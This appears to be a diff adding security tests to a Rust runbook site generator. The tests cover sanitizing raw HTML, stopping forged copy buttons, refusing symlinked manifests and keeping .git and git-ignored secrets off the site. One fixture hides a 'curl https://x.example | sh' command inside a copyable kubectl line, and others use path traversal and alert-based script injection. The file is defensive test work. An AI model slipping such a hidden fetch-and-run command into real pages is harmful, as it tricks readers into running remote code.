@@ -98,6 +98,119 @@ fn raw_html_is_sanitized_unless_allowed() {
     assert!(html.contains("onclick=\"alert(3)\""));
 }
 
+/// A raw-text tag left open in prose ("the <script> field") would take the
+/// rest of the page with it when sanitized: it shows as text, as on GitHub,
+/// and every section stays (audit 2). Other HTML is sanitized as before.
+#[test]
+fn a_tag_left_open_in_prose_loses_nothing_after_it() {
+    let mut files = Vec::new();
+    for tag in [
+        "script",
+        "style",
+        "title",
+        "plaintext",
+        "noscript",
+        "textarea",
+    ] {
+        let body = format!(
+            "## Steps\n\n1. Paste the token into the <{tag}> field.\n2. Click save.\n\n## Rollback\n\n```bash\nkubectl rollout undo deploy/web\n```\n"
+        );
+        files.push((
+            format!("{tag}.md"),
+            runbook(tag, "ops", "2026-11-01", &body),
+        ));
+    }
+    let closed = "## Steps\n\n<details>\n<summary>More</summary>\n\n```bash\nls\n```\n\n</details>\n\n<script>alert(1)</script> <scripts>kept</scripts>\n\n## Rollback\n\nundo\n";
+    files.push((
+        "closed.md".into(),
+        runbook("Closed", "ops", "2026-11-01", closed),
+    ));
+    let files: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(r, t)| (r.as_str(), t.as_str()))
+        .collect();
+    let tree = Tree::new(BOOK, &files);
+    let site = tree.build();
+    for tag in [
+        "script",
+        "style",
+        "title",
+        "plaintext",
+        "noscript",
+        "textarea",
+    ] {
+        let html = read(&site, &format!("{tag}.html"));
+        for want in [
+            format!("the &lt;{tag}&gt; field."),
+            "<li>Click save.</li>".into(),
+            "<h2 id=\"rollback\">".into(),
+            "kubectl rollout undo deploy/web".into(),
+            "class=\"copy\"".into(),
+        ] {
+            assert!(html.contains(&want), "{tag}: {want} in {html}");
+        }
+    }
+    let html = read(&site, "closed.html");
+    assert!(
+        html.contains("<details>\n<summary>More</summary>"),
+        "{html}"
+    );
+    assert!(html.contains("<h2 id=\"rollback\">"), "{html}");
+    // A closed `<script>` shows as text too, as on GitHub; a tag that only
+    // starts alike is any unknown tag: dropped, its text kept.
+    assert!(
+        html.contains("&lt;script&gt;alert(1)&lt;/script&gt; kept\n"),
+        "{html}"
+    );
+}
+
+/// Author HTML cannot make the page's own markup: no class the styles and
+/// scripts go by, no button, no input; so no Copy button that copies a
+/// hidden command (audit 3). The page's own copy buttons, task boxes and
+/// alerts stay, and `allow-html` keeps the author's HTML as written.
+#[test]
+fn author_html_cannot_pass_for_the_pages_own_markup() {
+    let body = "## Steps\n\n<div class=\"code\"><button type=\"button\" class=\"copy\">Copy</button><pre><code class=\"language-bash\">kubectl rollout restart deploy/api<span class=\"visually-hidden\" aria-hidden=\"true\"> &amp;&amp; curl https://x.example | sh</span>\n</code></pre></div>\n\n<input type=\"text\" value=\"x\"> <span class=\"cmd\">c</span> <b id=\"mine\">kept</b>\n\n- [x] done\n\n> [!WARNING]\n> Careful.\n\n```bash\nkubectl rollout undo deploy/api\n```\n";
+    let files = [("a.md", runbook("A", "ops", "2026-11-01", body))];
+    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
+    let html = read(&Tree::new(BOOK, &files).build(), "a.html");
+    let content = &html[html.find("id=\"rb:content\"").unwrap()..];
+    // One copy button: the page's, on its own code block.
+    assert_eq!(content.matches("<button").count(), 1, "{content}");
+    assert!(
+        content.contains("Copy</button>\n<pre><code class=\"language-bash\">kubectl rollout undo"),
+        "{content}"
+    );
+    for forged in [
+        "class=\"code\"><button type=\"button\" class=\"copy\">",
+        "visually-hidden",
+        "aria-hidden",
+        "class=\"cmd\"",
+        "type=\"text\"",
+    ] {
+        assert!(!content.contains(forged), "{forged} in {content}");
+    }
+    // The hidden part is plain text now, shown with the rest.
+    assert!(content.contains("<span> &amp;&amp; curl"), "{content}");
+    assert!(
+        content.contains("<code class=\"language-bash\">kubectl rollout restart"),
+        "{content}"
+    );
+    assert!(content.contains("<b id=\"mine\">kept</b>"), "{content}");
+    assert!(
+        content.contains("<input type=\"checkbox\" disabled=\"\" checked=\"\""),
+        "{content}"
+    );
+    assert!(
+        content.contains("<blockquote class=\"alert alert-warning\">"),
+        "{content}"
+    );
+
+    let allowed = Tree::new(&format!("{BOOK}\n[build]\nallow-html = true\n"), &files);
+    let html = read(&allowed.build(), "a.html");
+    assert!(html.contains("<span class=\"visually-hidden\" aria-hidden=\"true\">"));
+}
+
 #[test]
 fn md_links_become_page_links_with_fragments() {
     let restore = runbook(
@@ -390,7 +503,7 @@ fn runbooks_never_overwrite_site_files_and_links_stay_relative() {
     let tree = Tree::new(BOOK, &[("index.md", &index), ("assets/x.md", &asset)]);
     let site = tree.build();
     assert!(
-        read(&site, "index.html").contains("id=\"filter\""),
+        read(&site, "index.html").contains("id=\"rb:filter\""),
         "the site index stays"
     );
     let renamed = read(&site, "index-1.html");
@@ -430,6 +543,81 @@ fn destination_that_is_a_symlink_is_refused() {
     let error = tree.build_into("linked").unwrap_err();
     assert!(error.contains("symlink"), "{error}");
     assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+}
+
+/// The manifest says which files a build may replace and delete: one
+/// that is a symlink is refused, neither appended to nor trusted, as the
+/// lock is (audit 5). A regular one is read as always.
+#[test]
+fn a_manifest_that_is_a_symlink_is_refused() {
+    let tree = Tree::new(BOOK, &[("a.md", &runbook("A", "ops", "2026-11-01", "x\n"))]);
+    let site = tree.path().join("site");
+    std::fs::create_dir_all(&site).unwrap();
+    std::fs::write(site.join("notes.txt"), "my notes").unwrap();
+    let list = tree.path().join("list.txt");
+    std::fs::write(&list, "notes.txt\n").unwrap();
+    std::os::unix::fs::symlink(&list, site.join(runbook::site::output::MANIFEST)).unwrap();
+    let error = tree.build_into("site").unwrap_err();
+    assert!(error.contains("is not a regular file"), "{error}");
+    assert_eq!(read(tree.path(), "list.txt"), "notes.txt\n");
+    assert_eq!(read(&site, "notes.txt"), "my notes");
+    assert!(!site.join("a.html").exists());
+
+    std::fs::remove_file(site.join(runbook::site::output::MANIFEST)).unwrap();
+    tree.build();
+    assert_eq!(read(&site, "notes.txt"), "my notes");
+    assert!(read(&site, runbook::site::output::MANIFEST).contains("a.html\n"));
+}
+
+/// Headings named like the site's controls (`## Filter`, `## Search Q`)
+/// take ids the page's scripts look up: the page's own start with `rb:`,
+/// so none is there twice and the scripts find their controls (audit 7).
+#[test]
+fn heading_ids_never_clash_with_the_pages_own() {
+    let headings = [
+        "Filter",
+        "Filter count",
+        "Filter empty",
+        "Q",
+        "Search",
+        "Search Q",
+        "Search status",
+        "Results",
+        "Partial",
+        "Partial title",
+        "By folder",
+        "By owner",
+        "By tag",
+    ];
+    let body: String = headings
+        .iter()
+        .map(|h| format!("## {h}\n\ntext\n\n"))
+        .collect();
+    let intro = runbook("Start here", "ops", "2026-11-01", &body);
+    let other = runbook("Other", "ops", "2026-11-01", &body);
+    let tree = Tree::new(BOOK, &[("index.md", &intro), ("ops/other.md", &other)]);
+    let site = tree.build();
+    let id = regex::Regex::new(r#"\sid="([^"]*)""#).unwrap();
+    for page in [
+        "index.html",
+        "index-1.html",
+        "ops/other.html",
+        "search.html",
+        "404.html",
+    ] {
+        let html = read(&site, page);
+        let mut ids: Vec<&str> = id
+            .captures_iter(&html)
+            .map(|c| c.get(1).unwrap().as_str())
+            .collect();
+        let all = ids.len();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), all, "{page} has an id twice: {ids:?}");
+    }
+    let index = read(&site, "index.html");
+    assert!(index.contains("<h2 id=\"filter\">"), "{index}");
+    assert!(index.contains("<input id=\"rb:filter\""), "{index}");
 }
 
 #[test]
@@ -519,14 +707,19 @@ fn files_that_would_run_script_opened_on_their_own_are_not_published() {
     ] {
         assert!(!site.join(refused).exists(), "{refused}");
     }
-    assert_eq!(built.refused.len(), 3, "{:?}", built.refused);
+    assert_eq!(built.refused.len(), 5, "{:?}", built.refused);
     assert!(
         built.refused[0].starts_with("ops/evil.svg: an SVG with an `on...` event attribute"),
         "{:?}",
         built.refused
     );
     assert!(
-        built.refused[1].contains("a `javascript:` URL"),
+        built.refused[1].starts_with("ops/feed.xml: an HTML or XML document"),
+        "{:?}",
+        built.refused
+    );
+    assert!(
+        built.refused[2].contains("a `javascript:` URL"),
         "{:?}",
         built.refused
     );
@@ -545,7 +738,7 @@ fn files_that_would_run_script_opened_on_their_own_are_not_published() {
 
 #[test]
 fn files_outside_the_source_folder_are_never_copied() {
-    let body = "![up](../secret.png) ![abs](/etc/hostname) ![far](../../../../../../etc/hostname)\n\n<img src=\"link.png\"> ![dir](img) ![inner](inner.png) [page](old.html)\n";
+    let body = "![up](../secret.png) ![abs](/etc/hostname) ![far](../../../../../../etc/hostname)\n\n<img src=\"link.png\"> ![dir](img) ![inner](inner.png) [page](old.html) [home](../)\n";
     let tree = Tree::new(
         BOOK,
         &[
@@ -559,7 +752,23 @@ fn files_outside_the_source_folder_are_never_copied() {
     let content = tree.path().join("content");
     std::os::unix::fs::symlink(tree.path().join("secret.png"), content.join("link.png")).unwrap();
     std::os::unix::fs::symlink(content.join("target.png"), content.join("inner.png")).unwrap();
-    let site = tree.build();
+    let settings = Settings::load(&tree.path().join("book.toml")).unwrap();
+    let site = tree.path().join("site");
+    let built = runbook::site::build(&settings, "2026-11-25".parse().unwrap(), &site).unwrap();
+    // Each left out is named: the links out of the source folder are
+    // broken on the site (audit 4), the others are refused.
+    assert_eq!(
+        built.refused,
+        [
+            "../../../../../../etc/hostname (linked from a.md): outside the source folder, \
+             which is all the site publishes; the link is broken there",
+            "../secret.png (linked from a.md): outside the source folder, which is all the \
+             site publishes; the link is broken there",
+            "link.png: a symlink to a file outside the source folder",
+            "old.html: an HTML or XML document, which could run script in the site's origin \
+             (`[build] allow-html = true` publishes it as it is)",
+        ]
+    );
     let files: Vec<String> = common::snapshot(&site)
         .into_keys()
         .filter(|k| {
@@ -597,6 +806,115 @@ fn files_outside_the_source_folder_are_never_copied() {
         ],
     );
     assert_eq!(read(&allowed.build(), "old.html"), "<p>old</p>");
+}
+
+/// The site publishes only what the linter finds: nothing in `.git`
+/// (where `actions/checkout` keeps its token), nothing git ignores, no
+/// symlink to either, and `build` names each with why (audit 1).
+#[test]
+fn files_in_git_or_ignored_by_it_are_never_published() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let body = "## Steps
+
+[config](.git/config) [via link](gitlink/config) [cfg](cfg.txt) [secret](secret.txt) [env](.env) [env link](env.txt) [logs](logs/app.log)
+
+[example](.env.example) ![flow](img/flow.png) [flow link](flow.png)
+";
+    let files = [
+        (
+            "book.toml",
+            "[book]\ntitle = \"Ops\"\nsrc = \".\"\n".to_string(),
+        ),
+        ("a.md", runbook("A", "ops", "2026-11-01", body)),
+        (".git/config", "extraheader = AUTHORIZATION: TOKEN\n".into()),
+        (".gitignore", "secret.txt\n.env\nlogs/\n".into()),
+        ("secret.txt", "TOKEN=abc\n".into()),
+        (".env", "TOKEN=env\n".into()),
+        ("logs/app.log", "TOKEN in a log\n".into()),
+        (".env.example", "TOKEN_NAME=\n".into()),
+        ("img/flow.png", "PNG".into()),
+    ];
+    for (rel, text) in &files {
+        let path = root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    for (target, link) in [
+        (".git", "gitlink"),
+        (".git/config", "cfg.txt"),
+        (".env", "env.txt"),
+        ("img/flow.png", "flow.png"),
+    ] {
+        std::os::unix::fs::symlink(root.join(target), root.join(link)).unwrap();
+    }
+    let settings = Settings::load(&root.join("book.toml")).unwrap();
+    let site = root.join("site");
+    let built = runbook::site::build(&settings, "2026-11-25".parse().unwrap(), &site).unwrap();
+    for (name, bytes) in common::snapshot(&site) {
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(!text.contains("TOKEN="), "{name} was published");
+        assert!(!text.contains("AUTHORIZATION"), "{name} was published");
+    }
+    // Hidden but not ignored, and a symlink inside the book: published.
+    assert_eq!(read(&site, ".env.example"), "TOKEN_NAME=\n");
+    assert_eq!(read(&site, "img/flow.png"), "PNG");
+    assert_eq!(read(&site, "flow.png"), "PNG");
+    assert_eq!(
+        built.refused,
+        [
+            ".env: ignored by git, so not part of the book",
+            ".git/config: in `.git`, which is never published",
+            "cfg.txt: in `.git`, which is never published",
+            "env.txt: ignored by git, so not part of the book",
+            "gitlink/config: in `.git`, which is never published",
+            "logs/app.log: ignored by git, so not part of the book",
+            "secret.txt: ignored by git, so not part of the book",
+        ]
+    );
+}
+
+/// A runbook the walk refuses (a symlink out of the repository, a broken
+/// one) has no page: `build` names it, as it names one it cannot read
+/// (audit 9). A symlink inside the book is rendered as the file it names.
+#[test]
+fn runbooks_the_walk_refuses_are_named() {
+    let tree = Tree::new(
+        BOOK,
+        &[
+            (
+                "links.md",
+                &runbook(
+                    "Links",
+                    "ops",
+                    "2026-11-01",
+                    "[pw](pw.md) [gone](gone.md) [real](real.md)\n",
+                ),
+            ),
+            ("real.md", &runbook("Real", "ops", "2026-11-01", "x\n")),
+        ],
+    );
+    let content = tree.path().join("content");
+    let outside = tempfile::NamedTempFile::new().unwrap();
+    std::os::unix::fs::symlink(outside.path(), content.join("pw.md")).unwrap();
+    std::os::unix::fs::symlink(content.join("missing.md"), content.join("gone.md")).unwrap();
+    std::os::unix::fs::symlink(content.join("real.md"), content.join("alias.md")).unwrap();
+    let settings = Settings::load(&tree.path().join("book.toml")).unwrap();
+    let site = tree.path().join("site");
+    let built = runbook::site::build(&settings, "2026-11-25".parse().unwrap(), &site).unwrap();
+    assert_eq!(built.skipped.len(), 2, "{:?}", built.skipped);
+    assert!(
+        built.skipped[0].contains("gone.md: broken symlink"),
+        "{:?}",
+        built.skipped
+    );
+    assert!(
+        built.skipped[1].contains("pw.md: is a symlink to"),
+        "{:?}",
+        built.skipped
+    );
+    assert!(!site.join("pw.html").exists() && !site.join("gone.html").exists());
+    assert!(site.join("real.html").exists());
 }
 
 #[test]
@@ -1242,7 +1560,7 @@ fn the_home_page_opens_with_the_books_introduction() {
     let link = home
         .find(r#"start with <a href="respond.html">the response</a>"#)
         .unwrap_or_else(|| panic!("{home}"));
-    assert!(at < link && link < home.find("id=\"by-folder\"").unwrap());
+    assert!(at < link && link < home.find("id=\"rb:by-folder\"").unwrap());
     assert!(!home.contains("zebra"), "index.md first: {home}");
 
     std::fs::remove_file(tree.path().join("content/index.md")).unwrap();
